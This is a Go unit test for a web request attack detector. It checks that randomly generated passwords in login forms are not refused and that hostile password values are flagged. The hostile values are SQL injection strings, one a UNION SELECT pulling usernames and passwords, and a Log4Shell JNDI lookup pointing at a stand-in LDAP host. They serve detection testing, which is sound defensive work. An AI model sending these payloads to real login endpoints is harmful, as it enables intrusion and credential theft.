package detect

import (
	"math/rand/v2"
	"net/http"
	"net/netip"
	"net/url"
	"testing"
)

// Generated passwords (Bitwarden's and KeePass's symbol sets) in a login
// form and a JSON login are never attacks: a user whose password tripped
// would be refused at every attempt. Before the secret-field rule, 0.10 %
// of Bitwarden's and 0.87 % of KeePass's were. What breaks out of a SQL
// string in a password field is still an attack.
func TestGeneratedPasswordsAreNotAttacks(t *testing.T) {
	d := newDetector(t, nil)
	rng := rand.New(rand.NewPCG(1, 2))
	for _, set := range []struct{ name, chars string }{
		{"bitwarden", "abcdefghijkmnopqrstuvwxyzABCDEFGHJKLMNPQRSTUVWXYZ23456789!@#$%^&*"},
		{"keepass-all", "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789!\"#$%&'()*+,-./:;<=>?@[\\]^_`{|}~"},
	} {
		const n = 10000
		refused := 0
		for i := range n {
			b := make([]byte, 20)
			for j := range b {
				b[j] = set.chars[rng.IntN(len(set.chars))]
			}
			form := withBody(browserRequest("/wp-login.php"), "application/x-www-form-urlencoded",
				"log=alice&pwd="+url.QueryEscape(string(b))+"&wp-submit=Log+In")
			json := withBody(browserRequest("/api/login"), "application/json",
				`{"email":"alice@example.com","password":`+jsonString(string(b))+`}`)
			for _, r := range []*http.Request{form, json} {
				if res := d.inspect(r, netip.AddrFrom4([4]byte{100, 66, byte(i >> 8), byte(i)}), 0); res.Attack() {
					refused++
					t.Logf("%s: %q refused: %v", set.name, b, res.Signals.Names())
				}
			}
		}
		if refused > 0 {
			t.Errorf("%s: %d of %d logins with generated passwords refused", set.name, refused, 2*n)
		}
	}
	for _, pw := range []string{"' OR '1'='1", "x' UNION SELECT username, password FROM users-- -", "${jndi:ldap://x.example/a}"} {
		r := withBody(browserRequest("/login"), "application/x-www-form-urlencoded", "user=alice&password="+url.QueryEscape(pw))
		if res := d.inspect(r, netip.MustParseAddr("198.51.100.66"), 0); !res.Attack() {
			t.Errorf("%q in a password field is no attack", pw)
		}
	}
}
